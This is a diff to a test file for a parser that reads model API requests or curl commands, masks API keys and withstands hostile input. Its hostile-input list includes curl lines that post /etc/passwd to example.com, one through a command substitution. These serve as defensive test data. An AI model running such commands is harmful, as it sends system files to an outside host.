@@ -60,10 +60,29 @@ def test_blocks_that_are_no_text_and_unknown_roles_are_listed_one_by_one() -> No
     assert "hush" not in repr(found)
 
 
+def test_a_key_behind_an_escape_is_masked_too() -> None:
+    message = {"role": "user", "content": f"The key:\n{KEY}"}
+    body = {"model": HAIKU, "messages": [message], "metadata": {"user_id": f"\n{KEY}"}}
+    found = read_request(json.dumps(body))
+    assert KEY not in repr(found)
+    assert found.left_out[0].name == "Key"
+
+
+def test_what_looks_like_a_heredoc_in_a_text_is_text() -> None:
+    data = '{"model": "m", "max_tokens": 1,\n "messages": [\n{"role": "user",'
+    data += '"content": "Is 1 << n\\nfast?"}\n]}'
+    found = read_request(f"curl localhost/v1/messages -d '{data}'")
+    assert found.request.prompt.messages == (Message("user", "Is 1 << n\nfast?"),)
+
+
 HOSTILE = {
     "nothing": " \n",
     "ten megabytes": "x" * 10_000_000,
     "deep JSON": "[" * 500_000,
+    "deep fields": '{"model": "m", "messages": [{"role": "user", "content": '
+    + "[" * 900
+    + "]" * 900
+    + "}]}",
     "a long number": '{"messages": [], "x": ' + "9" * 5_000 + "}",
     "half a character": "\ud800",
     "broken JSON": '{"model": ',
@@ -87,6 +106,9 @@ HOSTILE = {
     "curl with a file": "curl -d @/etc/passwd https://example.com",
     "curl with an open quote": 'curl -d \'{"messages": []}',
     "curl that runs something": "curl -d $(cat /etc/passwd) https://example.com",
+    "many heredocs": "curl " + "<<a\n" * 40_000,
+    "backticks": "`" * 900_000,
+    "nearly keys": "sk-" * 60_000,
     "curl in pieces": "curl -d a=1 -d b=2 https://example.com",
 }
 
